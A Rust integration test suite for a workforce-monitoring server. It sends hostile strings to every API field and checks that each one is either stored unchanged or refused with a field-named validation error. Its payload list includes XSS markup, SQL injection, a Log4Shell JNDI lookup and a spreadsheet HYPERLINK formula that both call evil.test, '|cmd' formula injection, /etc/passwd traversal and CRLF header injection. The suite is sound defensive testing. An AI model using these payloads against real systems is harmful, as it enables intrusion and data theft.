//! Hostile texts in every field that people and devices fill in: what is taken comes back as it was
//! sent, what is not is refused by the field's name, and nothing is an error of ours.

use std::io::{Cursor, Read as _};

use reqwest::Method;
use serde_json::{Value, json};
use workpulse_server::{
    clock::{Clock as _, SystemClock},
    domain::alert::Opening,
    store::alerts::{self, Kind},
};

use crate::harness::{Answer, BEGINNING, LoggedIn, PASSWORD, TestApp};

/// Markup, queries, formulas, templates, paths, headers, control characters, letters that change
/// direction or length, and what databases and parsers take for something else.
fn hostile() -> Vec<String> {
    let mut texts: Vec<String> = [
        "evil.test",
        "https://evil.test/?a=%22%3E%3Cscript%3E",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "'; DROP TABLE users; --",
        "1 OR 1=1",
        "%' OR name LIKE '%",
        "\\",
        "\"",
        "'",
        "\\u0000",
        "$1",
        "?",
        "{{7*7}}",
        "${jndi:ldap://evil.test/a}",
        "%s%n%d",
        "=HYPERLINK(\"http://evil.test\",\"x\")",
        "+1",
        "-1+1|cmd",
        "@SUM(A1)",
        "../../../../etc/passwd",
        "%00%0d%0aSet-Cookie: a=b",
        "null",
        "NaN",
        "[object Object]",
        "\u{202e}gnirts\u{202c}",
        "\u{200b}",
        "\u{feff}mark",
        "\u{2028}",
        "e\u{301}\u{301}\u{301}\u{301}",
        "\u{1f469}\u{200d}\u{1f4bb}",
        "\u{10ffff}",
        "\u{ffff}",
        "İstanbul ß ﬀ",
        "مرحبا עולם",
        "  padded  ",
        "a\0b",
        "a\r\nSet-Cookie: a=b",
        "a\tb",
        "a\nb",
        "\u{1b}[31mred",
        "\u{7f}",
        "\u{85}",
        " ",
        "",
    ]
    .map(str::to_owned)
    .into();
    texts.push("x".repeat(5_000));
    texts.push("\u{1f469}".repeat(300));
    texts
}

/// The same as addresses.
fn hostile_addresses() -> Vec<String> {
    let mut texts = hostile();
    texts.extend(hostile().iter().map(|text| format!("{text}@evil.test")));
    texts.extend(
        [
            "a@b@c",
            "@",
            "a@",
            "A.B+c@EVIL.test",
            "o'brien@evil.test",
            "\"a b\"@evil.test",
        ]
        .map(str::to_owned),
    );
    texts
}

type Body = Box<dyn Fn(&str, i64) -> Value>;

/// A field of a request.
struct Field {
    /// As a refusal names it; the beginning of that is enough.
    named: &'static str,
    method: Method,
    path: String,
    token: String,
    body: Body,
    /// Where it is read; `{id}` is the answer's.
    read: String,
    /// The version to name is read here.
    versioned: Option<String>,
    texts: Vec<String>,
}

/// Whether a text stands somewhere in an answer.
fn holds(value: &Value, text: &str) -> bool {
    match value {
        Value::String(own) => own == text,
        Value::Array(items) => items.iter().any(|item| holds(item, text)),
        Value::Object(fields) => fields.values().any(|field| holds(field, text)),
        _ => false,
    }
}

/// Whether a field of this name has this text somewhere in an answer.
fn holds_as(value: &Value, name: &str, text: &str) -> bool {
    match value {
        Value::Array(items) => items.iter().any(|item| holds_as(item, name, text)),
        Value::Object(fields) => fields
            .iter()
            .any(|(key, field)| (key == name && field == text) || holds_as(field, name, text)),
        _ => false,
    }
}

async fn ask(app: &TestApp, field: &Field, text: &str, serial: i64) -> Answer {
    let mut body = (field.body)(text, serial);
    if let Some(path) = &field.versioned {
        let read = app.get(path, &field.token).await.expect(200);
        body["version"] = read["version"].clone();
    }
    let request = app.request(field.method.clone(), &field.path).json(&body);
    let request = if field.token.is_empty() {
        request
    } else {
        request.bearer_auth(&field.token)
    };
    app.send(request).await
}

/// What is wrong with a field, one line each; how many texts it took and refused.
async fn judged(app: &TestApp, reader: &str, field: &Field, wrong: &mut Vec<String>) -> (u32, u32) {
    let (mut taken, mut refused) = (0, 0);
    for (serial, text) in (1..).zip(&field.texts) {
        let what = format!(
            "{} {} {:?} = {text:.60?}",
            field.method, field.path, field.named
        );
        let answer = ask(app, field, text, serial).await;
        match answer.status.as_u16() {
            200..=299 => {
                taken += 1;
                let body = if answer.text.is_empty() {
                    Value::Null
                } else {
                    answer.json()
                };
                let id = ["/id", "/device_id", "/user_id", "/invitation/id"]
                    .iter()
                    .find_map(|place| body.pointer(place)?.as_str())
                    .unwrap_or_default();
                let path = field.read.replace("{id}", id);
                let read = app.get(&path, reader).await.expect(200);
                let kept = [text.as_str(), text.trim(), &text.trim().to_lowercase()];
                // A blank text that may be left out is none.
                let blank = text.trim().is_empty();
                if !blank && !kept.iter().any(|kept| holds(&read, kept)) {
                    wrong.push(format!("{what}: taken, and then it was another"));
                }
            }
            422 => {
                refused += 1;
                let body = answer.problem(422, "validation");
                let named = body["fields"].as_array().is_some_and(|fields| {
                    fields.iter().any(|one| {
                        one["field"]
                            .as_str()
                            .is_some_and(|name| name.starts_with(field.named))
                    })
                });
                if !named {
                    wrong.push(format!(
                        "{what}: refused, and not by its name: {}",
                        body["fields"]
                    ));
                }
            }
            status => wrong.push(format!("{what}: {status}: {:.200}", answer.text)),
        }
    }
    (taken, refused)
}

/// Fields of things that are there: they are changed, and read where they are.
fn changed(admin: &LoggedIn, path: &str, read: &str, named: &'static str) -> Field {
    Field {
        named,
        method: Method::PATCH,
        path: path.to_owned(),
        token: admin.token.clone(),
        body: Box::new(move |text, _| json!({ named: text })),
        read: read.to_owned(),
        versioned: None,
        texts: hostile(),
    }
}

/// Fields of things that are made.
fn made(
    by: &LoggedIn,
    path: &str,
    read: &str,
    named: &'static str,
    body: impl Fn(&str, i64) -> Value + 'static,
) -> Field {
    Field {
        named,
        method: Method::POST,
        path: path.to_owned(),
        token: by.token.clone(),
        body: Box::new(body),
        read: read.to_owned(),
        versioned: None,
        texts: hostile(),
    }
}

/// A list or a rule of a policy, at this path.
fn of_policy(
    admin: &LoggedIn,
    path: &str,
    named: &'static str,
    rule: impl Fn(&str) -> Value + 'static,
) -> Field {
    Field {
        method: Method::PUT,
        versioned: Some(path.to_owned()),
        ..made(admin, path, path, named, move |text, _| {
            let mut policy = json!(shared_types::policy::CapturePolicy::careful(0));
            policy[named] = json!([rule(text)]);
            policy
        })
    }
}

async fn id_of(app: &TestApp, admin: &LoggedIn, path: &str, body: Value) -> String {
    let made = app.post(path, &admin.token, &body).await.expect(201);
    let id = made["id"]
        .as_str()
        .or_else(|| made["webhook"]["id"].as_str());
    id.expect("an id").to_owned()
}

/// A report each day, called so.
fn daily(name: &str) -> Value {
    json!({
        "name": name, "every": "day", "at": "07:00", "group_by": "day", "format": "csv", "enabled": false,
    })
}

/// Open alerts about a person.
async fn open_alerts(app: &TestApp, person: &LoggedIn, many: usize) -> Vec<String> {
    let mut ids = Vec::new();
    let tenant = app.state().store.tenant(person.organization_id);
    for n in 0..many {
        let opening = Opening {
            user_id: person.user_id,
            session_id: None,
            episode: format!("episode {n}"),
            seconds: 33_000,
            agent_online: None,
        };
        let mut tx = tenant.begin().await.expect("begins");
        let id = SystemClock.new_uuid();
        alerts::insert(
            &mut tx,
            id.into(),
            Kind::Overtime,
            &opening,
            false,
            BEGINNING,
        )
        .await
        .expect("writes");
        tx.commit().await.expect("commits");
        ids.push(id.to_string());
    }
    ids
}

on_both_engines! {
    async fn hostile_names_come_back_as_they_were_or_are_refused_by_name(app) {
        let ada = app.set_up().await;
        let eve = app.person(&ada, "Eve", "employee").await;
        let team = app.team(&ada, "Blue").await;
        let project = app.project(&ada, "Website").await;
        let category = json!({ "name": "Work", "kind": "productive" });
        let category = id_of(app, &ada, "/api/v1/categories", category).await;
        let webhook = json!({ "url": "https://hooks.acme.test/", "kinds": ["alert.opened"] });
        let webhook = id_of(app, &ada, "/api/v1/webhooks", webhook).await;
        let webhook = format!("/api/v1/webhooks/{webhook}");
        let user = format!("/api/v1/users/{}", eve.user_id);
        let organization = "/api/v1/organization";
        let token = json!({ "user_id": eve.user_id, "max_uses": 1_000 });
        let token = app.post("/api/v1/enrolment-tokens", &ada.token, &token).await.expect(201)["token"].clone();
        let enrol = |named: &'static str| {
            let token = token.clone();
            let mut field = made(&ada, "/api/v1/devices/enrol", "/api/v1/devices/{id}", named, move |text, _| {
                let mut request = json!({
                    "token": token, "device_id": SystemClock.new_uuid(), "name": "desk", "os": "Debian 12",
                    "agent_version": "0.1.0",
                });
                request[named] = json!(text);
                request
            });
            field.token.clear();
            field
        };
        let schedule = id_of(app, &ada, "/api/v1/report-schedules", daily("The day")).await;
        let schedule = format!("/api/v1/report-schedules/{schedule}");
        let stretch = |serial: i64| {
            let from = BEGINNING.plus_seconds(-86_400 - 120 * serial);
            (from, from.plus_seconds(120))
        };
        let employee = eve.user_id;
        let mut fields = vec![
            changed(&ada, &user, &user, "name"),
            changed(&ada, organization, organization, "name"),
            changed(&ada, &team, &team, "name"),
            changed(&ada, &project, &project, "name"),
            changed(&ada, &format!("/api/v1/categories/{category}"), "/api/v1/categories", "name"),
            changed(&ada, &webhook, &webhook, "label"),
            changed(&ada, &webhook, &webhook, "url"),
            enrol("name"), enrol("os"), enrol("agent_version"),
            made(&ada, "/api/v1/enrolment-tokens", "/api/v1/enrolment-tokens?limit=200", "label", move |text, _| {
                json!({ "user_id": employee, "label": text })
            }),
            made(&ada, "/api/v1/enrolment-tokens", "/api/v1/enrolment-tokens?limit=200", "mail_domain", move |text, _| {
                json!({ "mail_domain": text })
            }),
            Field {
                method: Method::PUT,
                ..made(&ada, &schedule, "/api/v1/report-schedules", "name", |text, _| daily(text))
            },
            made(&eve, "/api/v1/notes", &format!("/api/v1/notes?limit=200&user_id={employee}"), "text", move |text, serial| {
                let (from, to) = stretch(serial);
                json!({ "from": from, "to": to, "kind": "meeting", "text": text })
            }),
            of_policy(&ada, "/api/v1/policy", "excluded_applications", |text| json!(text)),
            of_policy(&ada, "/api/v1/policy", "excluded_patterns", |text| json!({ "field": "title", "pattern": text })),
            of_policy(&ada, "/api/v1/policy", "url_rules", |text| json!({ "domain": text, "action": "drop" })),
            of_policy(&ada, "/api/v1/policy", "window_rules", |text| json!({
                "field": "title", "pattern": text, "action": "hide_title", "category_id": null,
            })),
        ];
        for rule in ["application", "title", "domain"] {
            let category = category.clone();
            fields.push(Field {
                method: Method::PUT,
                versioned: Some("/api/v1/category-rules".to_owned()),
                ..made(&ada, "/api/v1/category-rules", "/api/v1/category-rules", "rules", move |text, _| {
                    json!({ "rules": [{ rule: text, "category_id": category }] })
                })
            });
        }
        // Addresses.
        fields.push(Field {
            texts: hostile_addresses(),
            ..made(&ada, "/api/v1/users", "/api/v1/users/{id}", "email", |text, _| {
                json!({ "name": "X", "email": text, "role": "employee" })
            })
        });
        fields.push(Field {
            // Who has an account is not invited: other addresses than those.
            texts: hostile_addresses().iter().map(|text| text.replace("@evil.", "@guests.").replace("@EVIL.", "@GUESTS.")).collect(),
            ..made(&ada, "/api/v1/invitations", "/api/v1/invitations?limit=200", "email", |text, _| json!({ "email": text }))
        });
        fields.push(made(&ada, "/api/v1/users", "/api/v1/users/{id}", "name", |text, serial| {
            json!({ "name": text, "email": format!("x{serial}@evil.test"), "role": "employee" })
        }));
        let mut wrong = Vec::new();
        for field in &fields {
            let (kept, refused) = judged(app, &ada.token, field, &mut wrong).await;
            if kept == 0 || refused == 0 {
                // Each field takes something, and has a limit.
                wrong.push(format!("{} {} {}: {kept} taken, {refused} refused", field.method, field.path, field.named));
            }
        }
        assert!(wrong.is_empty(), "{} are wrong:\n{}", wrong.len(), wrong.join("\n"));
    }

    async fn hostile_names_and_words_at_joining_and_answering(app) {
        let ada = app.set_up().await;
        let eve = app.person(&ada, "Eve", "employee").await;
        let texts = hostile();
        let alerts = open_alerts(app, &eve, texts.len()).await;
        let mut wrong = Vec::new();
        for ((serial, text), alert) in (1_i64..).zip(&texts).zip(&alerts) {
            let resolve = made(&ada, &format!("/api/v1/alerts/{alert}/resolve"), "/api/v1/alerts/{id}", "note", |text, _| json!({ "note": text }));
            let from = BEGINNING.plus_seconds(-86_400 - 120 * serial);
            let note = json!({ "from": from, "to": from.plus_seconds(120), "kind": "meeting" });
            let note = app.post("/api/v1/notes", &eve.token, &note).await.expect(201);
            let path = format!("/api/v1/notes/{}/answer", note["id"].as_str().expect("an id"));
            let read = format!("/api/v1/notes?limit=200&user_id={}", eve.user_id);
            let answer = made(&ada, &path, &read, "answer", |text, _| json!({ "version": 1, "accepted": true, "answer": text }));
            for mut field in [resolve, answer] {
                field.texts = vec![text.clone()];
                judged(app, &ada.token, &field, &mut wrong).await;
            }
        }
        // Who was invited gives a name; a few, each costs a password's hash.
        for (serial, text) in (1..).zip(texts.iter().step_by(5)) {
            let invited = json!({ "email": format!("i{serial}@evil.test") });
            let invited = app.post("/api/v1/invitations", &ada.token, &invited).await.expect(201);
            let link = invited["link"].as_str().expect("shown without mail");
            let secret = crate::joining::secret(link);
            let mut field = made(&ada, "/api/v1/auth/register", "/api/v1/users?limit=200", "name", move |text, _| {
                json!({ "invitation": secret, "name": text, "password": PASSWORD })
            });
            field.token.clear();
            field.texts = vec![text.clone()];
            judged(app, &ada.token, &field, &mut wrong).await;
        }
        assert!(wrong.is_empty(), "{} are wrong:\n{}", wrong.len(), wrong.join("\n"));
    }

    async fn hostile_titles_of_devices_come_back_in_the_timeline_and_in_exports(app) {
        let ada = app.set_up().await;
        let eve = app.person(&ada, "Eve", "employee").await;
        let device = app.device(&ada, eve.user_id).await;
        let texts: Vec<String> = hostile().into_iter().filter(|text| !text.is_empty()).collect();
        let session = SystemClock.new_uuid();
        let began = BEGINNING.plus_seconds(-60 * (3 * i64::try_from(texts.len()).expect("few") + 1));
        let mut items = vec![json!({ "seq": 1, "item": { "session_started": { "session_id": session, "started_at": began } } })];
        let mut sent = Vec::new();
        for text in &texts {
            for place in ["application", "title", "url"] {
                let n = i64::try_from(items.len()).expect("few");
                let mut span = json!({
                    "session_id": session, "activity_type": "active", "duration_seconds": 60,
                    "started_at": began.plus_seconds(60 * (n - 1)), "application": "Editor",
                });
                span[place] = json!(text);
                items.push(json!({ "seq": n + 1, "item": { "activity": span } }));
                sent.push((place, text.clone()));
            }
        }
        let batch = json!({
            "device_id": device.device_id, "epoch": SystemClock.new_uuid(), "clock": BEGINNING, "items": items,
        });
        let answer = app.post("/api/v1/sync", &device.secret, &batch).await.expect(200);
        let results = answer["results"].as_array().expect("a list");
        let path = format!("/api/v1/users/{}/timeline?date=2026-11-22", eve.user_id);
        let timeline = app.get(&path, &ada.token).await.expect(200);
        let request = app.request(Method::GET, "/api/v1/me/export").bearer_auth(&eve.token);
        let bytes = request.send().await.expect("answers").bytes().await.expect("whole");
        let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip");
        let mut text = String::new();
        zip.by_name("activity.json").expect("there").read_to_string(&mut text).expect("text");
        let exported: Value = serde_json::from_str(&text).expect("JSON");
        let (mut stored, mut refused) = (0, 0);
        for ((place, text), result) in sent.iter().zip(&results[1..]) {
            let what = format!("{place} {text:.60?}: {result}");
            if result["outcome"] == "stored" {
                stored += 1;
                assert!(holds_as(&timeline, place, text), "{what}, and not in the timeline");
                assert!(holds_as(&exported, place, text), "{what}, and not in the export");
            } else {
                refused += 1;
                assert_eq!((&result["outcome"], &result["reason"]), (&json!("rejected"), &json!("bad_text")), "{what}");
                assert!(!holds_as(&timeline, place, text), "{what}");
            }
        }
        assert!(stored > 80 && refused > 15, "{stored} stored, {refused} refused");
    }
}
